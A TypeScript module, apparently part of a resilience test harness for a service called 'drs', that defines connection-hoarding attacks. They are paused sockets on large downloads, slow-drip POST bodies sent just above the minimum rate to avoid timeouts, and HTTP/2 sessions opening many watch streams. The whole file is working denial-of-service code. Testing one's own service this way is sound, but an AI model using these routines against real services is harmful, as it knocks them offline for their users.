import http2 from "node:http2";
import { type Attack, bodyHead, connect, drip, form, type Target } from "./attackers.ts";

/** Just above the minimum rate, so that it is never cut off. */
const little = " ".repeat(1_200);
const watchesPerConnection = 128;

const begin = (path: string, type: string, { apiKey }: Target): string =>
  `POST ${path} HTTP/1.1\r\nHost: drs\r\nX-Api-Key: ${apiKey}\r\nContent-Type: ${type}\r\nContent-Length: 9000000\r\n\r\n`;

/** The requests of one client that occupies as many of every kind as it can. */
export const hoards = (jobId: string): readonly (readonly [Attack, number])[] => [
  [
    (target) => {
      const { pathname, search } = new URL(target.largeLink);
      const socket = connect(target);
      socket.pause();
      socket.write(`GET ${pathname}${search} HTTP/1.1\r\nHost: drs\r\n\r\n`);
      return socket;
    },
    512,
  ],
  [(target) => drip(target, `${begin("/v1/extract", form, target)}${bodyHead}`, little), 256],
  [(target) => drip(target, `${begin("/v1/search", "application/json", target)}{"query":`, little), 64],
  [
    (target) => {
      const session = http2.connect(target.url);
      for (let nth = 0; nth < watchesPerConnection; nth++) {
        const stream = session.request({ ":path": `/v1/jobs/${jobId}/watch`, "x-api-key": target.apiKey });
        stream.on("error", () => undefined).resume();
      }
      return session;
    },
    2048 / watchesPerConnection,
  ],
];
